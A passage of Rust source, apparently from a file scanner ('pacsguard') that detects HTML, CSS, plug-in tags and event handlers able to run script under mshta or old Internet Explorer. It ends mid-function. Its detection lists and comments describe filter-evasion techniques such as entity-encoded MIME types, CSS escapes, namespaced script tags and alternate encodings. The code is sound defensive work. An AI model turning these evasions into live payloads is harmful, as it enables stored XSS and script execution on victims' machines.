//! Markup that runs script when the file is rendered as HTML.
//!
//! `mshta.exe` (an HTA host) and old Internet Explorer modes render a file as HTML whatever
//! comes before the markup: binary bytes are shown as text, and the first `<script>` or
//! event-handler attribute runs. A web viewer that shows a text element unescaped does the
//! same (stored XSS). So markup is looked for anywhere in the file, in ASCII and in UTF-16
//! (mshta honours a UTF-16 byte-order mark), and confirmed by its syntax: a tag that opens
//! script, or an `on...=` attribute inside a tag.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, Anchored, Input, Match, Span, packed};
use pacsguard_events::{Severity, escape_bytes};

use crate::budget::Clock;

mod iso2022jp;

/// How far back from an attribute the `<` of its tag is looked for, and how much of a tag
/// is read: a real tag is far shorter, and an attacker who pads an attribute value past
/// it gets a warning, not silence.
pub const MAX_TAG_BYTES: usize = 64 * 1024;
/// `<name` openings tried, nearest first, for one attribute: the nearest may sit inside
/// a quoted value of the real tag (`<img alt="<b>" onerror=...>`).
pub const MAX_TAG_TRIES: usize = 8;
/// Attribute candidates (an event handler or URL attribute name followed by `=`) checked
/// per file; a file crafted to hold more gets a warning.
pub const MAX_MARKUP_CANDIDATES: usize = 4096;

/// What opens a candidate; each is confirmed by what surrounds it. `:script` is a script
/// element with a namespace prefix (`<svg:script>`, `<x:script>`), which XHTML and SVG
/// documents and Internet Explorer's engine (mshta's) run as `<script>`. `<object`,
/// `<embed` and `<applet` open the tags of plug-in content (a scriptlet, an ActiveX
/// class, the Java or Flash plug-in): the whole tag is read with the tokenizer's rules,
/// its values entity-decoded, and its attributes judged ([`active_attribute`]). Issue
/// 10 (session 15): needles for the types themselves (`/x-shockwave-flash`) missed a
/// type written with entities (`application&#47;x-…`) and could not grow (the start
/// search holds 64 two-byte starts); the tag starts reach every way of writing them.
const NEEDLES: [&str; 9] = [
    "<script",
    "<style",
    "<hta:application",
    "script:",
    "scriptlet:",
    ":script",
    "<object",
    "<embed",
    "<applet",
];

/// A `<style>` element's content read for script, past its start tag; longer content
/// that holds none within it is a warning (not read to its end), never taken as inert.
/// Session 20: 64 KiB warned on ordinary inline CSS (Bootstrap 4's style sheet inlined
/// is ~190 KiB, a saved web page inlines all of its sheets); what many of them cost a
/// file is bounded by [`MAX_STYLE_SHEET_BYTES_PER_FILE`], not by this.
pub const MAX_STYLE_BYTES: usize = 512 * 1024;

/// Bytes all the `<style>` candidates of one search may read (their tags, their content
/// up to its `</style`, the UTF-16 text narrowed for them). Each candidate reads up to
/// [`MAX_TAG_BYTES`] + [`MAX_STYLE_BYTES`] and candidates overlap (`<style>` repeated
/// every few bytes, none closed, read the same bytes once per candidate: review
/// s19-r10 counted ~2 GB of work in one file); past it the search stops with a warning.
pub const MAX_STYLE_SHEET_BYTES_PER_FILE: usize = 32 * 1024 * 1024;

/// The tag names of [`NEEDLES`] whose whole tag is read and judged.
const PLUGIN_TAGS: [&[u8]; 3] = [b"<object", b"<embed", b"<applet"];

/// The MIME types by which an `<object type=…>` or `<embed type=…>` names a plug-in that
/// runs the code it is given with no script of the page: the Java plug-in (an applet),
/// the Flash player (a movie), Silverlight (the `.xap` it is given), the classes of
/// [`ACTIVE_CLASS_IDS`] named by type instead of by class id (Internet Explorer's engine
/// maps the type to the class). Issue 10 (sessions 13 to 15). Compared with the value
/// entity-decoded, in lower case, without its parameters (`;version=1.6`).
const PLUGIN_TYPES: [(&[u8], &str); 10] = [
    (b"application/x-java-applet", "the Java plug-in"),
    (b"application/x-java-vm", "the Java plug-in"),
    (b"application/java-vm", "the Java plug-in"),
    (b"application/x-java-bean", "the Java plug-in"),
    (b"application/x-shockwave-flash", "the Flash player"),
    (b"application/futuresplash", "the Flash player"),
    (b"application/x-silverlight-2", "the Silverlight plug-in"),
    (b"application/x-silverlight", "the Silverlight plug-in"),
    (b"text/x-scriptlet", "the DHTML scriptlet"),
    (b"text/scriptlet", "the DHTML scriptlet"),
];

/// The schemes of an `<object classid=…>` that name a Java class to run (HTML 4.01,
/// 13.3: `classid="java:program.start"`), compared in lower case after entity decoding.
const JAVA_CLASS_SCHEMES: [&[u8]; 2] = [b"java:", b"javabean:"];

/// Code types (`<object codetype=…>`) of Java code besides the types of [`PLUGIN_TYPES`]:
/// HTML 4.01's example names `application/java`.
const JAVA_CODE_TYPES: [(&[u8], &str); 3] = [
    (b"application/java", "the Java plug-in"),
    (b"application/java-archive", "the Java plug-in"),
    (b"application/x-java-archive", "the Java plug-in"),
];

/// The names by which a plug-in tag's attribute or a `<param>` of an `<object>` or
/// `<applet>` names Java code for the Java plug-in to load and run (its deployment
/// guide: `code`, `object`, `archive`, `codebase`, the `java_` spellings that avoid
/// clashing with other plug-ins, and `jnlp_href`). Issue 10 (session 18): `<object
/// classid=…><param name=code value=Evil.class>` and `<param name=archive …>` were not
/// read; html.parser reads each as the tests show.
const JAVA_CODE_NAMES: [&[u8]; 9] = [
    b"code",
    b"java_code",
    b"object",
    b"java_object",
    b"archive",
    b"java_archive",
    b"codebase",
    b"java_codebase",
    b"jnlp_href",
];

/// The `<param>` names by which an `<object>` hands the Flash player its movie.
const MOVIE_PARAMS: [&[u8]; 3] = [b"movie", b"src", b"filename"];

/// Elements whose content the tokenizer reads as text up to their end tag (RAWTEXT and
/// RCDATA, and script): an `</object>` in them is text.
const RAW_TEXT: [&[u8]; 9] = [
    b"script",
    b"style",
    b"textarea",
    b"title",
    b"xmp",
    b"iframe",
    b"noembed",
    b"noframes",
    b"noscript",
];

/// `<param>` tags read after an `<object>` or `<applet>` up to its end tag; past it the
/// tag is a warning (the rest not read).
pub const MAX_PLUGIN_PARAMS: usize = 256;

/// A value with the backticks Internet Explorer's engine reads as quotes taken off.
fn unquote_backticks(value: &[u8]) -> &[u8] {
    let value = value.strip_prefix(b"`").unwrap_or(value);
    value.strip_suffix(b"`").unwrap_or(value)
}

/// Classes an `<object classid="clsid:…">` instantiates that run code on their own when
/// mshta (Internet Explorer's engine) renders the page, with no `<script>` of the page:
/// the DHTML scriptlet (what `type="text/x-scriptlet"` names: it loads and runs the
/// scriptlet of its `data`/`url`), the HTML Help control (its `ShortCut` command runs the
/// program its `Item1` names), the Flash player and the Java plug-in (run the movie's or
/// the applet's code). Classes a script drives (`WScript.Shell`, `Shell.Application`)
/// run nothing without a script, which is found as such.
const ACTIVE_CLASS_IDS: [(&[u8; 36], &str); 4] = [
    (
        b"ae24fdae-03c6-11d1-8b76-0080c744f389",
        "the DHTML scriptlet",
    ),
    (
        b"adb880a6-d8ff-11cf-9377-00aa003b7a11",
        "the HTML Help control",
    ),
    (b"d27cdb6e-ae6d-11cf-96b8-444553540000", "the Flash player"),
    (b"8ad9c840-044e-11d1-b3e9-00805f499d93", "the Java plug-in"),
];

/// The versioned class ids of the Java plug-in (`CAFEEFAC-00VV-000U-00UU-ABCDEFFEDCBA`):
/// each runs an applet.
const JAVA_PLUGIN_CLASS_PREFIX: &[u8] = b"cafeefac-";

/// Event handlers (any of them runs script: most on their own, the rest on a click or a
/// key that an HTA's user gives it).
const HANDLERS: [&str; 40] = [
    "onload",
    "onerror",
    "onfocus",
    "onfocusin",
    "onfocusout",
    "onblur",
    "onactivate",
    "onbeforeactivate",
    "onreadystatechange",
    "onpropertychange",
    "onmouseover",
    "onmouseenter",
    "onmousemove",
    "onmousedown",
    "onmouseup",
    "onpointerover",
    "onpointerenter",
    "onpointerdown",
    "onclick",
    "ondblclick",
    "onauxclick",
    "oncontextmenu",
    "onkeydown",
    "onkeypress",
    "onkeyup",
    "oninput",
    "onchange",
    "onsubmit",
    "onresize",
    "onwheel",
    "onpageshow",
    "onanimationstart",
    "onanimationend",
    "onanimationiteration",
    "ontransitionend",
    "onbegin",
    "onend",
    "ontoggle",
    "onscroll",
    "onstart",
];

/// Attributes whose value is a URL a browser or mshta loads or follows: a `javascript:`
/// or `vbscript:` URL there runs script.
const URL_ATTRIBUTES: [&str; 9] = [
    "srcdoc",
    "href",
    "src",
    "action",
    "formaction",
    "lowsrc",
    "dynsrc",
    "xlink:href",
    "background",
];

/// Other attributes whose value can run script: inline CSS, a `<meta http-equiv=refresh>`
/// target (Internet Explorer, which mshta is, follows a refresh to a `javascript:` URL),
/// an `<object>`'s document (`data="data:text/html,…"`), an `<applet>`'s class (`code=…`:
/// the Java plug-in runs it). An `<object>`'s class (`classid="clsid:…"`) and type are
/// judged from the tag start (`<object` of [`NEEDLES`]), the whole tag read with the
/// tokenizer's rules.
const OTHER_ATTRIBUTES: [&str; 4] = ["style", "content", "data", "code"];

/// URL schemes that run script.
/// `data:` URLs of documents run their script too, in a frame, object or embed of a web
/// viewer (an opaque origin, but script all the same).
const SCRIPT_SCHEMES: [&[u8]; 7] = [
    b"javascript:",
    b"vbscript:",
    b"livescript:",
    b"data:text/html",
    b"data:image/svg+xml",
    b"data:application/xhtml+xml",
    b"data:text/xml",
];

/// One encoding's search: the patterns in an automaton, and a SIMD search for the places
/// where a pattern can start.
struct Searcher {
    automaton: AhoCorasick,
    /// The first two characters of every pattern in every ASCII case, in one packed
    /// (Teddy) searcher. Built case-insensitively, the automaton gets no SIMD prefilter of
    /// its own, and its rare-byte fallback stopped at every NUL byte in the UTF-16 search
    /// (every other byte of 16-bit pixel data): 70% of the time of a scan of CT images
    /// (perf, bench/scan.sh). `None` where the CPU has no packed searcher: the automaton
    /// then searches on its own, slower but the same.
    starts: Option<packed::Searcher>,
    /// The same patterns in a DFA with no prefilter, for stretches where places a pattern
    /// can start are dense: 100 MB of `oN` (every other byte the start of `onload`) made
    /// the start search stop 50 million times, each stop an anchored search of its own
    /// (3.6 s; review s6-r10). There the DFA reads the bytes in one pass instead.
    dense: AhoCorasick,
    /// The bytes a pattern has where its third character is ([`START_CHARS`] characters
    /// in), in every ASCII case: a start found whose third character is none of them
    /// starts no pattern (every pattern has at least three characters), and needs no
    /// anchored search. The start search stops once per ~1,500 bytes of pixel data; each
    /// anchored search cost as much as the start search itself (perf on bench/scan's
    /// `images` tree), and this check turns most of them away.
    third: [bool; 256],
    /// The longest pattern, in bytes: a match found in a stretch ending this close to its
    /// end may be the start of a longer one.
    longest: usize,
    /// Bytes per character: 1, or 2 for UTF-16.
    width: usize,
}

/// Anchored searches in a row that found nothing, each within [`DENSE_GAP`] bytes of the
/// last, after which the next [`DENSE_STRETCH`] bytes are searched by the DFA in one pass.
/// Chance starts in binary data are ~1,500 bytes apart: never dense.
const DENSE_MISSES: usize = 8;
const DENSE_GAP: usize = 64;
const DENSE_STRETCH: usize = 64 * 1024;

/// Characters of each pattern that the start search looks for: two letters occur at
/// random in binary data once per ~1,500 bytes at most (44 case variants), and a third
/// would take the variants past what one packed searcher holds (64).
const START_CHARS: usize = 2;

impl Searcher {
    fn new(patterns: Vec<Vec<u8>>, width: usize) -> Option<Searcher> {
        // Leftmost-longest: `onfocusin` is not taken for `onfocus`, nor `lowsrc` for `src`.
        let automaton = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(aho_corasick::MatchKind::LeftmostLongest)
            .start_kind(aho_corasick::StartKind::Both)
            .build(&patterns)
            .ok()?;
        let mut starts: Vec<Vec<u8>> = Vec::new();
        for pattern in &patterns {
            let head = pattern.get(..START_CHARS * width)?;
            for variant in case_variants(head) {
                if !starts.contains(&variant) {
                    starts.push(variant);
                }
            }
        }
        let starts = packed::Config::new()
            .match_kind(packed::MatchKind::LeftmostFirst)
            .builder()
            .extend(&starts)
            .build();
        let dense = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(aho_corasick::MatchKind::LeftmostLongest)
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .prefilter(false)
            .build(&patterns)
            .ok()?;
        let mut third = [false; 256];
        for pattern in &patterns {
            let byte = *pattern.get(START_CHARS * width)?;
            third[usize::from(byte.to_ascii_lowercase())] = true;
            third[usize::from(byte.to_ascii_uppercase())] = true;
        }
        let longest = patterns.iter().map(Vec::len).max().unwrap_or(1);
        Some(Searcher {
            automaton,
            starts,
            dense,
            third,
            longest,
            width,
        })
    }

    /// The matches `find_iter` would give (leftmost-longest, not overlapping), found by
    /// running the automaton anchored at each place a pattern can start: every pattern
    /// starts with one of `starts`, so none is missed. The start search resumes one byte
    /// on, not after the start it found: `<src=` holds `src` one byte into `<s`.
    fn find_iter<'a>(&'a self, bytes: &'a [u8]) -> Box<dyn Iterator<Item = Match> + 'a> {
        let Some(starts) = &self.starts else {
            return Box::new(self.automaton.find_iter(bytes));
        };
        let mut from = 0usize;
        // Anchored searches in a row that found nothing, close together.
        let mut misses = 0usize;
        let mut last_miss = 0usize;
        Box::new(std::iter::from_fn(move || {
            while from < bytes.len() {
                let start = starts
                    .find_in(bytes, Span::from(from..bytes.len()))?
                    .start();
                if misses >= DENSE_MISSES {
                    // The leftmost-longest match of the stretch is the one the anchored
                    // searches would reach first; one too near the stretch's end may be
                    // cut short (or hide one that starts before it and runs past the
                    // end): from there on, the search starts again.
                    misses = 0;
                    let end = bytes.len().min(start.saturating_add(DENSE_STRETCH));
                    let input = Input::new(bytes).span(start..end);
                    let safe = |at: usize| end == bytes.len() || at + self.longest <= end;
                    match self.dense.find(input) {
                        Some(found) if safe(found.start()) => {
                            from = found.end().max(found.start() + 1);
                            return Some(found);
                        }
                        None if end == bytes.len() => return None,
                        _ => {
                            from = (end + 1).saturating_sub(self.longest).max(start + 1);
                            continue;
                        }
                    }
                }
                let third = bytes.get(start + START_CHARS * self.width);
                let found = if third.is_some_and(|&b| self.third[usize::from(b)]) {
                    let input = Input::new(bytes)
                        .span(start..bytes.len())
                        .anchored(Anchored::Yes);
                    #[cfg(test)]
                    tests::ANCHORED.with(|n| n.set(n.get() + 1));
                    self.automaton.find(input)
                } else {
                    None
                };
                match found {
                    Some(found) => {
                        misses = 0;
                        from = found.end().max(start + 1);
                        return Some(found);
                    }
                    None => {
                        misses = if start - last_miss <= DENSE_GAP {
                            misses + 1
                        } else {
                            0
                        };
                        last_miss = start;
                        from = start + 1;
                    }
                }
            }
            None
        }))
    }
}

/// `bytes` in every combination of ASCII upper and lower case (NUL bytes of UTF-16 and
/// punctuation have one case).
fn case_variants(bytes: &[u8]) -> Vec<Vec<u8>> {
    let mut variants = vec![Vec::with_capacity(bytes.len())];
    for &b in bytes {
        let cases = if b.is_ascii_alphabetic() {
            vec![b.to_ascii_lowercase(), b.to_ascii_uppercase()]
        } else {
            vec![b]
        };
        variants = variants
            .into_iter()
            .flat_map(|v| {
                cases.iter().map(move |&c| {
                    let mut v = v.clone();
                    v.push(c);
                    v
                })
            })
            .collect();
    }
    variants
}

static SEARCHERS: LazyLock<Option<(Searcher, Searcher)>> = LazyLock::new(|| {
    let ascii: Vec<Vec<u8>> = NEEDLES
        .iter()
        .chain(HANDLERS.iter())
        .chain(URL_ATTRIBUTES.iter().filter(|a| !a.contains(':')))
        .chain(OTHER_ATTRIBUTES.iter())
        .map(|n| n.as_bytes().to_vec())
        .collect();
    let wide: Vec<Vec<u8>> = ascii.iter().map(|p| utf16le(p)).collect();
    Some((Searcher::new(ascii, 1)?, Searcher::new(wide, 2)?))
});

fn utf16le(ascii: &[u8]) -> Vec<u8> {
    ascii.iter().flat_map(|&b| [b, 0]).collect()
}

/// Markup found: what would run script (`Alert`), or a tag the search could not read to
/// its end within its limits (`Warning`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Markup {
    pub offset: usize,
    pub severity: Severity,
    pub detail: String,
}

/// Markup that would run script, found in `bytes`: its offset and one sentence.
pub fn find_active_markup(bytes: &[u8]) -> Option<(usize, String)> {
    find_active_markup_until(bytes, &Clock::default())
}

/// [`find_active_markup`] that stops at `clock`'s deadline (the caller asks the clock
/// whether it did: only markup that runs is returned here).
pub fn find_active_markup_until(bytes: &[u8], clock: &Clock) -> Option<(usize, String)> {
    find_markup_until(bytes, clock)
        .filter(|m| m.severity == Severity::Alert)
        .map(|m| (m.offset, m.detail))
}

/// The first markup in `bytes` that would run script; else the first place where a limit
/// stopped the search from telling. A file that declares ISO-2022-JP is also read as a
/// browser decodes it ([`iso2022jp`]): its escape sequences decode to nothing, and split
/// a handler's name or a tag's for a byte-by-byte reading only.
pub fn find_markup(bytes: &[u8]) -> Option<Markup> {
    find_markup_until(bytes, &Clock::default())
}

/// [`find_markup`] that stops at `clock`'s deadline: a warning naming it.
pub fn find_markup_until(bytes: &[u8], clock: &Clock) -> Option<Markup> {
    let found = find_markup_as_bytes(bytes, clock);
    if found
        .as_ref()
        .is_some_and(|m| m.severity == Severity::Alert)
    {
        return found;
    }
    let Some(decoded) = iso2022jp::reading(bytes) else {
        return found;
    };
    match find_markup_as_bytes(&decoded, clock) {
        Some(m) if m.severity == Severity::Alert || found.is_none() => Some(Markup {
            offset: iso2022jp::offset_in_file(bytes, m.offset),
            severity: m.severity,
            detail: format!(
                "{} (read as ISO-2022-JP, the charset the file declares)",
                m.detail
            ),
        }),
        _ => found,
    }
}

/// [`find_markup`] of the bytes as they are (ASCII, and UTF-16 in both byte orders).
fn find_markup_as_bytes(bytes: &[u8], clock: &Clock) -> Option<Markup> {
    let (ascii, wide) = SEARCHERS.as_ref()?;
    let mut undecided: Option<Markup> = None;
    let mut candidates = 0usize;
    // Bytes read for `<style>` candidates, against MAX_STYLE_SHEET_BYTES_PER_FILE.
    let mut style_read = 0usize;
    for (searcher, is_wide) in [(ascii, false), (wide, true)] {
        for found in searcher.find_iter(bytes) {
            // The wide patterns (UTF-16LE) match UTF-16BE text one byte in: a candidate
            // there is read in both byte orders (they differ only around characters
            // past Latin-1, where reading BE text as LE loses the character before).
            let start = found.start();
            if clock.expired() {
                return Some(past_deadline(start, clock));
            }
            let readings = if !is_wide {
                [Some((start, Encoding::Ascii)), None]
            } else {
                [
                    Some((start, Encoding::Utf16Le)),
                    (start > 0 && bytes[start - 1] == 0).then(|| (start - 1, Encoding::Utf16Be)),
                ]
            };
            for (at, text_encoding) in readings.into_iter().flatten() {
                let width = text_encoding.width();
                let found_end = found.end() - (start - at);
                let encoding = text_encoding.name();
                let text = narrow(&bytes[at..bytes.len().min(at + 64 * width)], text_encoding);
                if let Some(what) = confirm_needle(&text, &|n: usize| {
                    narrow_before(&bytes[at.saturating_sub(n * width)..at], text_encoding)
                }) {
                    return Some(Markup {
                        offset: at,
                        severity: Severity::Alert,
                        detail: format!("{what}{encoding}"),
                    });
                }
                // A style sheet: Internet Explorer's engine (mshta's) runs `expression()` and
                // HTC behaviors in a `<style>` element as it does in a `style` attribute.
                if text.len() > 6
                    && text[..6].eq_ignore_ascii_case(b"<style")
                    && matches!(
                        text[6],
                        b'\t' | b'\n' | b'\x0c' | b'\r' | b' ' | b'/' | b'>'
                    )
                {
                    candidates += usize::from(at == start); // once for both byte orders
                    if candidates > MAX_MARKUP_CANDIDATES {
                        return undecided.or(Some(too_many_candidates(at)));
                    }
                    if clock.expired_now() {
                        return Some(past_deadline(at, clock));
                    }
                    let to = bytes
                        .len()
                        .min(at + (MAX_TAG_BYTES + MAX_STYLE_BYTES) * width);
                    // Read in place (no copy) in the common case; UTF-16 text is narrowed up
                    // to its end tag, and what was narrowed is charged.
                    let to = match text_encoding {
                        Encoding::Ascii => to,
                        _ => wide_style_window_end(bytes, at, to, text_encoding),
                    };
                    let window = match text_encoding {
                        Encoding::Ascii => std::borrow::Cow::Borrowed(&bytes[at..to]),
                        _ => std::borrow::Cow::Owned(narrow(&bytes[at..to], text_encoding)),
                    };
                    let (verdict, read) = style_element(&window, to < bytes.len());
                    style_read += if width == 1 {
                        read
                    } else {
                        (window.len() + 1) * width
                    };
                    if let Some(runs) = settle(verdict, at, encoding, &mut undecided) {
                        return Some(runs);
                    }
                    if style_read > MAX_STYLE_SHEET_BYTES_PER_FILE {
                        // Script this candidate runs is said first (above); the limit is said
                        // even after an element that could not be read (`undecided`): every
                        // later candidate of any kind goes unread from here.
                        return Some(Markup {
                            offset: at,
                            severity: Severity::Warning,
                            detail: format!(
                                "more than {MAX_STYLE_SHEET_BYTES_PER_FILE} bytes of <style> elements read (MAX_STYLE_SHEET_BYTES_PER_FILE): the markup from here on was not read{encoding}"
                            ),
                        });
                    }
                    continue;
                }
                // The start of a plug-in tag: the whole tag is read and its attributes judged.
                let opens_tag = PLUGIN_TAGS.iter().any(|name| {
                    name.len() == found.len() / width
                        && text
                            .get(..name.len())
                            .is_some_and(|head| head.eq_ignore_ascii_case(name))
                }) && matches!(
                    text.get(found.len() / width),
                    // `>` too: a bare `<object>` has `<param>` tags to read.
                    Some(b'\t' | b'\n' | b'\x0c' | b'\r' | b' ' | b'/' | b'>')
                );
                if opens_tag {
                    candidates += usize::from(at == start); // once for both byte orders
                    if candidates > MAX_MARKUP_CANDIDATES {
                        return undecided.or(Some(too_many_candidates(at)));
                    }
                    if clock.expired_now() {
                        return Some(past_deadline(at, clock));
                    }
                    let to = bytes.len().min(at + MAX_TAG_BYTES * width);
                    let window = narrow(&bytes[at..to], text_encoding);
                    let verdict = plugin_tag(&window, to < bytes.len());
                    if let Some(runs) = settle(verdict, at, encoding, &mut undecided) {
                        return Some(runs);
                    }
                    continue;
                }
                // An attribute name: `=` after it, a separator before it, then its tag.
                if !is_attribute_candidate(bytes, at, found_end, text_encoding) {
                    continue;
                }
                candidates += usize::from(at == start); // once for both byte orders
                if candidates > MAX_MARKUP_CANDIDATES {
                    return undecided.or(Some(too_many_candidates(at)));
                }
                if clock.expired_now() {
                    return Some(past_deadline(at, clock));
                }
                let from = at.saturating_sub(MAX_TAG_BYTES * width);
                let to = bytes.len().min(at + MAX_TAG_BYTES * width);
                let window = narrow_from(&bytes[from..to], text_encoding, at - from);
                let verdict = confirm_attribute(&window.0, window.1, from > 0, to < bytes.len());
                if let Some(runs) = settle(verdict, at, encoding, &mut undecided) {
                    return Some(runs);
                }
            }
        }
    }
    undecided
}

/// The warning for a search stopped at `clock`'s deadline at `at`: whatever it read
/// before ran nothing, and nothing after was read.
fn past_deadline(at: usize, clock: &Clock) -> Markup {
    Markup {
        offset: at,
        severity: Severity::Warning,
        detail: format!(
            "markup read up to here when {}: the markup from here on was not read",
            clock.reached()
        ),
    }
}

/// What one candidate's verdict makes of the search: markup that runs is the answer (an
/// alert at `at`); the first place the search could not tell is kept in `undecided` (a
/// warning, reported only if nothing runs anywhere); inert markup changes nothing.
fn settle(
    verdict: Verdict,
    at: usize,
    encoding: &str,
    undecided: &mut Option<Markup>,
) -> Option<Markup> {
    match verdict {
        Verdict::Runs(what) => Some(Markup {
            offset: at,
            severity: Severity::Alert,
            detail: format!("{what}{encoding}"),
        }),
        Verdict::CannotTell(why) => {
            if undecided.is_none() {
                *undecided = Some(Markup {
                    offset: at,
                    severity: Severity::Warning,
                    detail: format!("{why}{encoding}"),
                });
            }
            None
        }
        Verdict::Inert => None,
    }
}

/// The `<style>` element at the start of `text` (cut short of its end when `cut`): does
/// its style sheet run script in Internet Explorer's engine? Its content is raw text up to
/// `</style` (no entities), read as CSS ([`css_text`]). Also says how many bytes of
/// `text` it read (charged by the caller): its end is looked for in place, case
/// ignored, no further than [`MAX_STYLE_BYTES`] past the tag (each candidate once
/// copied its whole window into lower case).
fn style_element(text: &[u8], cut: bool) -> (Verdict, usize) {
    let Some(tag) = read_tag(text, 0) else {
        let verdict = if cut {
            Verdict::CannotTell(format!(
                "a <style> tag longer than MAX_TAG_BYTES ({MAX_TAG_BYTES}): its style sheet was not read"
            ))
        } else {
            Verdict::Inert
        };
        return (verdict, text.len());
    };
    let body = &text[tag.end.min(text.len())..];
    // One byte past the limit, and the end tag's length, tell "longer than the limit"
    // from "ends right at it".
    let searched = &body[..body.len().min(MAX_STYLE_BYTES + b"</style".len())];
    let end = raw_text_end(body, searched.len(), b"style");
    let (content, ended) = match end {
        Some(end) => (&body[..end], true),
        None if searched.len() < body.len() => (searched, false),
        None => (body, !cut),
    };
    // What was read: to the end tag found, or the whole reach (a closed sheet is charged
    // its length, not the reach: a page of many small sheets is no style-sheet bomb).
    let read = tag.end + end.map_or(searched.len(), |end| end + b"</style".len() + 1);
    // Past the limit: not read to its end (its closing tag is no content: review s19-r10).
    let whole = content.len() <= MAX_STYLE_BYTES;
    let content = &content[..content.len().min(MAX_STYLE_BYTES)];
    if css_runs(&css_text(content)) {
        let verdict = Verdict::Runs(format!(
            "script in a style sheet (<style>{}): Internet Explorer's engine, which mshta uses, runs it when the file is rendered as HTML",
            excerpt(content)
        ));
        return (verdict, read);
    }
    if !ended || !whole {
        let verdict = Verdict::CannotTell(format!(
            "a <style> element longer than MAX_STYLE_BYTES ({MAX_STYLE_BYTES}): the rest of its style sheet was not read"
        ));
        return (verdict, read);
    }
    (Verdict::Inert, read)
}

/// CSS as Internet Explorer's engine matches its keywords: escapes decoded (`\65` and
/// `\e` are `e`), comments dropped (`exp/**/ression(` is `expression(`), blanks dropped,
/// lower case.
fn css_text(css: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(css.len());
    let mut i = 0;
    while i < css.len() {
        match css[i] {
            b'/' if css.get(i + 1) == Some(&b'*') => {
                i = memchr::memmem::find(&css[i + 2..], b"*/").map_or(css.len(), |e| i + 2 + e + 2);
            }
            b'\\' => {
                let hex = css[i + 1..]
                    .iter()
                    .take(6)
                    .take_while(|b| b.is_ascii_hexdigit())
                    .count();
                if hex > 0 {
                    let digits = std::str::from_utf8(&css[i + 1..i + 1 + hex]).unwrap_or("0");
                    let code = u32::from_str_radix(digits, 16).unwrap_or(0);
                    if let Ok(byte) = u8::try_from(code) {
                        out.push(byte.to_ascii_lowercase());
                    }
                    i += 1 + hex;
                    if css.get(i).is_some_and(|b| b.is_ascii_whitespace()) {
                        i += 1;
                    }
                } else {
                    i += 1; // `\x` is `x`
                }
            }
            b if b <= b' ' => i += 1,
            b => {
                out.push(b.to_ascii_lowercase());
                i += 1;
            }
        }
    }
    out
}

/// Whether CSS read by [`css_text`] runs script: `expression(...)`, a script URL, an
/// HTC behavior.
fn css_runs(css: &[u8]) -> bool {
    memchr::memmem::find(css, b"expression(").is_some()
        || [&b"javascript:"[..], b"vbscript:"].iter().any(|scheme| {
            memchr::memmem::find_iter(css, scheme).any(|at| !selector_value(&css[..at]))
        })
        || memchr::memmem::find_iter(css, b"behavior:").any(|at| {
            // The value: a list of URLs (MSDN: space-delimited), each its own behavior.
            let value = &css[at + b"behavior:".len()..];
            let value = &value[..memchr::memchr2(b';', b'}', value).unwrap_or(value.len())];
            memchr::memmem::find_iter(value, b"url(")
                .any(|url| !built_in_behavior(&value[url + b"url(".len()..]))
        })
}

/// Whether a script scheme after `before` (CSS read by [`css_text`]) is the value of an
/// attribute selector (`a[href^="javascript:"]`, in HTML5 Boilerplate's print style
/// sheet): it matches links and loads nothing (review s19-r10).
fn selector_value(before: &[u8]) -> bool {
    let before = before
        .strip_suffix(b"\"")
        .or_else(|| before.strip_suffix(b"'"))
        .unwrap_or(before);
    let Some(before) = before.strip_suffix(b"=") else {
        return false;
    };
    let before = match before.split_last() {
        Some((operator, rest)) if b"^$*~|".contains(operator) => rest,
        _ => before,
    };
    let name = before
        .iter()
        .rev()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
        .count();
    name > 0 && before[..before.len() - name].ends_with(b"[")
}

/// Whether the behavior URL that opens `url` (CSS read by [`css_text`]) names one built
/// into the engine that runs no script of the file's: `#default#VML`, which every web
/// page Word saves declares (review s19-r10), `#default#userData`... HTML+TIME
/// (`#default#time`, `#default#time2`) runs `<t:set>` and stays an alert.
fn built_in_behavior(url: &[u8]) -> bool {
    let url = url
        .strip_prefix(b"\"")
        .or_else(|| url.strip_prefix(b"'"))
        .unwrap_or(url);
    let Some(name) = url.strip_prefix(b"#default#") else {
        return false;
    };
    let name = &name[..name
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric())
        .count()];
    !name.is_empty() && name != b"time" && name != b"time2"
}

/// The warning for a file past [`MAX_MARKUP_CANDIDATES`].
fn too_many_candidates(at: usize) -> Markup {
    Markup {
        offset: at,
        severity: Severity::Warning,
        detail: format!(
            "more than {MAX_MARKUP_CANDIDATES} attributes or plug-in tags that could run script when rendered as HTML (MAX_MARKUP_CANDIDATES): the rest were not checked"
        ),
    }
}

/// The plug-in tag (`<object`, `<embed`, `<applet`, see [`PLUGIN_TAGS`]) that `text`
/// starts with, read with the tokenizer's rules: does one of its attributes run code?
/// `cut`: `text` ends [`MAX_TAG_BYTES`] after the tag's start, not at the file's end; a
/// tag not closed by then is a warning (a tag the file ends inside is dropped by
/// browsers: inert).
fn plugin_tag(text: &[u8], cut: bool) -> Verdict {
    let Some(tag) = read_tag(text, 0) else {
        if !cut {
            return Verdict::Inert;
        }
        return Verdict::CannotTell(format!(
            "a plug-in tag (\"{}\") longer than {MAX_TAG_BYTES} bytes (MAX_TAG_BYTES): not read to its end",
            excerpt(text)
        ));
    };
    if let Some(runs) = tag
        .attributes
        .iter()
        .find_map(|attribute| active_attribute(&tag, attribute))
    {
        return Verdict::Runs(runs);
    }
    if matches!(tag.name.as_slice(), b"object" | b"applet") {
        return params(text, &tag, cut);
    }
    Verdict::Inert
}

/// The `<param>` tags of an `<object>` or `<applet>` (`tag`, read from `text`), up to its
/// end tag: does one name code the plug-in loads ([`JAVA_CODE_NAMES`], a Flash movie)?
/// A `<param>` the window cuts, or more than [`MAX_PLUGIN_PARAMS`] of them, is a warning.
fn params(text: &[u8], tag: &Tag, cut: bool) -> Verdict {
    let close: &[u8] = if tag.name == b"applet" {
        b"</applet"
    } else {
        b"</object"
    };
    let mut read = 0usize;
    let mut nested = 0usize;
    let mut i = tag.end;
    while let Some(open) = memchr::memchr(b'<', &text[i.min(text.len())..]).map(|n| i + n) {
        i = open + 1;
        let head = |name: &[u8]| {
            text.get(open..open + name.len())
                .is_some_and(|h| h.eq_ignore_ascii_case(name))
                && matches!(
